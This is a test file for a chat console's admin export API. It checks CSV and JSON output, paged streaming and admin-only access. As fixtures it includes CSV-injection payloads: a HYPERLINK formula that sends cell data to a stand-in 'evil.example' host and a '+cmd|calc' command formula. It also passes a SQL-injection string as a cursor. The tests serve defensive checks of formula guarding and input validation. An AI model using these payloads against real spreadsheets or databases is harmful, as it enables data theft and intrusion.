/**
 * The console's exports on Node with a real PGlite database: each kind as CSV and JSON for a date range,
 * thousands of rows read page by page (keyset cursors, ties and microseconds included) and streamed,
 * spreadsheet formulas guarded, and admins only — in the API and in the SQL functions themselves.
 */
import { sign } from 'hono/jwt';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { ConversationRecord, FeedbackRecord, GapRecord } from '../../../protocol/export.ts';
import { createTestApi, TEST_SECRET, type TestApi } from '../../testing/api.ts';

const PAGE = 200;
const BULK = 3000;
/** The bulk conversations are asked from here, three per timestamp (ties), 1001 µs apart (not whole ms). */
const BULK_FROM = '2026-03-01T00:00:00.000Z';
let api: TestApi;
let admin: string;
let session: string;

beforeAll(async () => {
  const created = await createTestApi();
  api = { ...created, app: created.instance({ admin: { exportPageRows: PAGE } }) };
  admin = await tokenFor({ role: 'admin' });
  const userId = await api.store.createAnonymousUser();
  session = (
    await owner<{ id: string }>(`insert into chat_sessions (user_id, title) values ($1, 'Export') returning id`, [
      userId,
    ])
  )[0]!.id;
  await owner(
    `with q as (
       insert into chat_messages (session_id, role, content, created_at)
       select $1, 'user', 'Bulk question ' || i, $2::timestamptz + (i / 3) * interval '1001 microseconds'
       from generate_series(0, $3 - 1) i
       returning id, content, created_at)
     insert into chat_messages (session_id, role, content, reply_to, citations, meta, created_at)
     select $1, 'assistant', 'Answer to ' || q.content, q.id, '[]'::jsonb, '{"kind": "answer"}'::jsonb, q.created_at from q`,
    [session, BULK_FROM, BULK],
  );
  // Three hand-made turns in January: a cited, rated answer with a context note; a refusal whose question is
  // a spreadsheet formula, rated 👎 with a formula comment; and one on the range's end (excluded).
  const cited = await turn('2026-01-10T10:00:00Z', 'How do refunds work?', 'Within 14 days [1].', {
    citations: [
      {
        n: 1,
        title: 'Billing',
        section: 'Refunds',
        url: '/docs/billing#refunds',
        chunk_id: crypto.randomUUID(),
        document_id: crypto.randomUUID(),
        similarity: 0.9,
      },
    ],
    meta: { kind: 'answer', confidence: 'high', mode: 'vector', context: 'Follow-up to: What plans are there?' },
  });
  await owner(
    `insert into chat_feedback (message_id, user_id, rating, comment, updated_at) values ($1, $2, 1, 'Clear, thanks', '2026-01-10T10:05:00Z')`,
    [cited, userId],
  );
  const refused = await turn(
    '2026-01-20T09:00:00Z',
    '=HYPERLINK("http://evil.example/?"&A1)',
    'I could not find that in the documentation.',
    {
      citations: null,
      meta: { kind: 'refusal', reason: 'no_evidence' },
    },
  );
  await owner(
    `insert into chat_feedback (message_id, user_id, rating, comment, updated_at) values ($1, $2, -1, '@SUM(1+1)', '2026-01-20T09:01:00Z')`,
    [refused, userId],
  );
  await turn('2026-02-01T00:00:00Z', 'Asked on the end of the range', 'Not exported.', {
    citations: [],
    meta: { kind: 'answer' },
  });
  await owner(
    `insert into content_gaps (question_key, question, reason, asked, first_asked_at, last_asked_at) values
       ('do you ship to mars?', 'Do you ship to Mars?', 'no_evidence', 3, '2026-01-05T00:00:00Z', '2026-01-25T00:00:00Z'),
       ('+cmd|calc', '+cmd|calc', 'no_evidence', 1, '2026-01-15T00:00:00Z', '2026-01-15T00:00:00Z'),
       ('asked in december only', 'Asked in December only', 'no_evidence', 2, '2025-12-01T00:00:00Z', '2025-12-31T00:00:00Z')`,
  );
});
afterAll(() => api?.close());

const owner = async <T>(sql: string, params: unknown[] = []) => (await api.store.db.query<T>(sql, params)).rows;

async function turn(
  at: string,
  question: string,
  answer: string,
  extra: { citations: unknown; meta: object },
): Promise<string> {
  const [q] = await owner<{ id: string }>(
    `insert into chat_messages (session_id, role, content, created_at) values ($1, 'user', $2, $3) returning id`,
    [session, question, at],
  );
  const [a] = await owner<{ id: string }>(
    `insert into chat_messages (session_id, role, content, reply_to, citations, meta, created_at) values ($1, 'assistant', $2, $3, $4, $5, $6) returning id`,
    [
      session,
      answer,
      q!.id,
      extra.citations === null ? null : JSON.stringify(extra.citations),
      JSON.stringify(extra.meta),
      at,
    ],
  );
  return a!.id;
}

async function tokenFor(appMetadata: Record<string, unknown>): Promise<string> {
  const userId = await api.store.createAnonymousUser();
  const now = Math.floor(Date.now() / 1000);
  return sign(
    { sub: userId, role: 'authenticated', aud: 'authenticated', app_metadata: appMetadata, iat: now, exp: now + 600 },
    TEST_SECRET,
    'HS256',
  );
}

const download = (kind: string, query: string, token: string | null = admin) =>
  api.app.request(`/api/admin/export/${kind}?${query}`, { headers: token ? { Authorization: `Bearer ${token}` } : {} });
const JANUARY = 'from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z';

/** A minimal RFC 4180 reader for the assertions (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}
const records = (rows: string[][]) =>
  rows.slice(1).map((r) => Object.fromEntries(rows[0]!.map((name, i) => [name, r[i]!])));

describe('GET /api/admin/export/conversations', () => {
  it('writes the range as JSON: citations, rating, comment and the context note; the end of the range excluded', async () => {
    const res = await download('conversations', `format=json&${JANUARY}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('Content-Type')).toMatch(/^application\/json/);
    expect(res.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="kb-chat-conversations-\d{4}-\d\d-\d\d\.json"$/,
    );
    expect(res.headers.get('Cache-Control')).toBe('no-store');
    const list = (await res.json()) as ConversationRecord[];
    expect(list.map((c) => [c.question, c.kind, c.rating, c.comment])).toEqual([
      ['How do refunds work?', 'answer', 1, 'Clear, thanks'],
      ['=HYPERLINK("http://evil.example/?"&A1)', 'refusal', -1, '@SUM(1+1)'],
    ]);
    expect(list[0]).toMatchObject({
      asked_at: '2026-01-10T10:00:00.000Z',
      answer: 'Within 14 days [1].',
      confidence: 'high',
      citations: [{ n: 1, title: 'Billing', section: 'Refunds', url: '/docs/billing#refunds' }],
      context: 'Follow-up to: What plans are there?',
      rated_at: '2026-01-10T10:05:00.000Z',
      visitor: expect.stringMatching(/^v-[0-9a-f]{10}$/),
    });
    expect(list[1]).toMatchObject({ reason: 'no_evidence', citations: [], context: null });
  });

  it('writes the same as CSV, with formula cells guarded by a leading quote', async () => {
    const res = await download('conversations', `format=csv&${JANUARY}`);
    expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    const bytes = new Uint8Array(await res.arrayBuffer());
    // A UTF-8 byte order mark first, for Excel (Response.text() and TextDecoder drop it when reading).
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.startsWith('asked_at,session_id,')).toBe(true);
    const rows = records(parseCsv(text));
    expect(rows.map((r) => [r.question, r.rating, r.comment, r.context])).toEqual([
      ['How do refunds work?', '1', 'Clear, thanks', 'Follow-up to: What plans are there?'],
      [`'=HYPERLINK("http://evil.example/?"&A1)`, '-1', `'@SUM(1+1)`, ''],
    ]);
    expect(rows[0]!.citations).toBe('[1] Billing › Refunds </docs/billing#refunds>');
  });

  it('pages through thousands of rows with keyset cursors — every row once, in order — and streams them', async () => {
    const spy = vi.spyOn(api.store, 'adminExportConversations');
    try {
      const res = await download('conversations', `format=csv&from=${BULK_FROM}`);
      const reader = res.body!.getReader();
      const first = await reader.read();
      expect(first.done).toBe(false);
      // The download has started while most pages are still unread: the table is not gathered first.
      expect(spy.mock.calls.length).toBeLessThan(4);
      const decoder = new TextDecoder();
      let text = decoder.decode(first.value, { stream: true });
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read())
        text += decoder.decode(chunk.value, { stream: true });
      const rows = records(parseCsv(text));
      expect(rows).toHaveLength(BULK);
      expect(new Set(rows.map((r) => r.question_id)).size).toBe(BULK);
      expect(rows.map((r) => r.asked_at)).toEqual([...rows.map((r) => r.asked_at)].sort());
      // One read per page, each after the cursor of the one before (3000 / 200, and the empty one at the end).
      expect(spy.mock.calls.length).toBe(BULK / PAGE + 1);
      expect(spy.mock.calls.every(([, page]) => page.limit === PAGE)).toBe(true);
      expect(spy.mock.calls.slice(1).every(([, page]) => typeof page.after === 'string')).toBe(true);
    } finally {
      spy.mockRestore();
    }
  });

  it('answers a bad range with a 400 before anything is written', async () => {
    const res = await download('conversations', 'from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z');
    expect(res.status).toBe(400);
    expect((await download('conversations', 'format=xlsx')).status).toBe(400);
    expect((await download('everything', 'format=csv')).status).toBe(404);
  });
});

describe('GET /api/admin/export/gaps and /feedback', () => {
  it('exports the content gaps asked in the range, as JSON and CSV', async () => {
    const list = (await (await download('gaps', `format=json&${JANUARY}`)).json()) as GapRecord[];
    expect(list.map((g) => [g.question_key, g.asked])).toEqual([
      ['+cmd|calc', 1],
      ['do you ship to mars?', 3],
    ]);
    const rows = records(parseCsv(await (await download('gaps', `format=csv&${JANUARY}`)).text()));
    expect(rows.map((r) => [r.question_key, r.question, r.asked])).toEqual([
      [`'+cmd|calc`, `'+cmd|calc`, '1'],
      ['do you ship to mars?', 'Do you ship to Mars?', '3'],
    ]);
  });

  it('exports the ratings changed in the range, as JSON and CSV', async () => {
    const list = (await (await download('feedback', `format=json&${JANUARY}`)).json()) as FeedbackRecord[];
    expect(list.map((f) => [f.rating, f.comment, f.question, f.kind])).toEqual([
      [1, 'Clear, thanks', 'How do refunds work?', 'answer'],
      [-1, '@SUM(1+1)', '=HYPERLINK("http://evil.example/?"&A1)', 'refusal'],
    ]);
    const rows = records(
      parseCsv(
        await (await download('feedback', 'format=csv&from=2026-01-15T00:00:00Z&to=2026-02-01T00:00:00Z')).text(),
      ),
    );
    expect(rows.map((r) => [r.rating, r.comment, r.question])).toEqual([
      ['-1', `'@SUM(1+1)`, `'=HYPERLINK("http://evil.example/?"&A1)`],
    ]);
    // Nothing rated in February: an empty but well-formed file.
    expect(
      await (await download('feedback', 'format=json&from=2026-02-01T00:00:00Z&to=2026-03-01T00:00:00Z')).json(),
    ).toEqual([]);
  });
});

describe('who may export', () => {
  it.each(['conversations', 'gaps', 'feedback'])(
    '%s: 401 without a token, 403 for a visitor or another role, with no-store',
    async (kind) => {
      expect((await download(kind, 'format=csv', null)).status).toBe(401);
      const visitor = await download(kind, 'format=csv', (await api.signIn()).token);
      expect(visitor.status).toBe(403);
      expect(visitor.headers.get('Cache-Control')).toBe('no-store');
      expect((await download(kind, 'format=json', await tokenFor({ role: 'editor' }))).status).toBe(403);
    },
  );

  it('the SQL functions refuse a non-admin themselves', async () => {
    const claims = { sub: crypto.randomUUID(), role: 'authenticated' };
    const page = { from: null, to: null, after: null, limit: 10 };
    await expect(api.store.adminExportConversations(claims, page)).rejects.toMatchObject({ kind: 'forbidden' });
    await expect(api.store.adminExportGaps(claims, page)).rejects.toMatchObject({ kind: 'forbidden' });
    await expect(api.store.adminExportFeedback(claims, page)).rejects.toMatchObject({ kind: 'forbidden' });
  });

  it('the SQL functions refuse a cursor they did not make and an unbounded page', async () => {
    const claims = { sub: crypto.randomUUID(), role: 'authenticated', app_metadata: { role: 'admin' } };
    await expect(
      api.store.adminExportConversations(claims, { from: null, to: null, after: "x' or 1=1", limit: 10 }),
    ).rejects.toMatchObject({ kind: 'invalid' });
    await expect(
      api.store.adminExportFeedback(claims, { from: null, to: null, after: null, limit: 100000 }),
    ).rejects.toMatchObject({ kind: 'invalid' });
  });
});
